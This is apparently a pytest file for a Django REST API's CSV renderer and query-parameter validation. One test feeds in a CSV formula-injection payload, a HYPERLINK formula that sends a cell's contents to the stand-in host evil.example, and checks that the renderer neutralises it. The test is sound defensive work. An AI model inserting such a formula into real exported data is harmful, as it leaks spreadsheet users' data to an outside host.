"""core.api's reporting pieces: the CSV renderer and the refusal of unknown query parameters."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.exceptions import ValidationError
from rest_framework.request import Request
from rest_framework.test import APIRequestFactory

from core.api import CsvRenderer, check_query_parameters


def _rows(data) -> list[dict]:
    return list(csv.DictReader(io.StringIO(CsvRenderer().render(data).decode())))


def test_a_page_renders_its_results_with_dotted_columns_and_json_lists():
    page = {"count": 2, "next": None, "previous": None, "results": [
        {"id": 1, "leg": {"symbol": "BTCUSDT", "qty": "0.5"}, "orders": [{"id": 7}]},
        {"id": 2, "leg": {"symbol": "ETHUSDT", "qty": "3"}, "orders": [], "extra": "x"},
    ]}
    rows = _rows(page)
    assert rows == [
        {"id": "1", "leg.symbol": "BTCUSDT", "leg.qty": "0.5", "orders": '[{"id": 7}]', "extra": ""},
        {"id": "2", "leg.symbol": "ETHUSDT", "leg.qty": "3", "orders": "[]", "extra": "x"},
    ]


def test_an_object_is_one_row():
    assert _rows({"detail": "Not found."}) == [{"detail": "Not found."}]


def test_unknown_query_parameters_are_named():
    request = Request(APIRequestFactory().get("/x/", {"symbol": "BTCUSDT", "limit": "5", "sybmol": "ETH", "zz": "1"}))
    with pytest.raises(ValidationError) as refused:
        check_query_parameters(request, ("symbol",))
    assert refused.value.detail == {"sybmol": ["unknown query parameter"], "zz": ["unknown query parameter"]}
    check_query_parameters(Request(APIRequestFactory().get("/x/", {"symbol": "A", "offset": "0"})), ("symbol",))


def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted_and_numbers_stay_numbers():
    rows = _rows([{"reason": '=HYPERLINK("http://evil.example/?d="&B2,"details")', "pnl": "-12.50"},
                  {"reason": "@SUM(A1:A9)", "pnl": "+3"}, {"reason": "-x", "pnl": "-1e-05"},
                  {"reason": "daily loss -3 %", "pnl": "0"}])
    assert [r["reason"] for r in rows] == ['\'=HYPERLINK("http://evil.example/?d="&B2,"details")', "'@SUM(A1:A9)",
                                           "'-x", "daily loss -3 %"]
    assert [r["pnl"] for r in rows] == ["-12.50", "+3", "-1e-05", "0"]
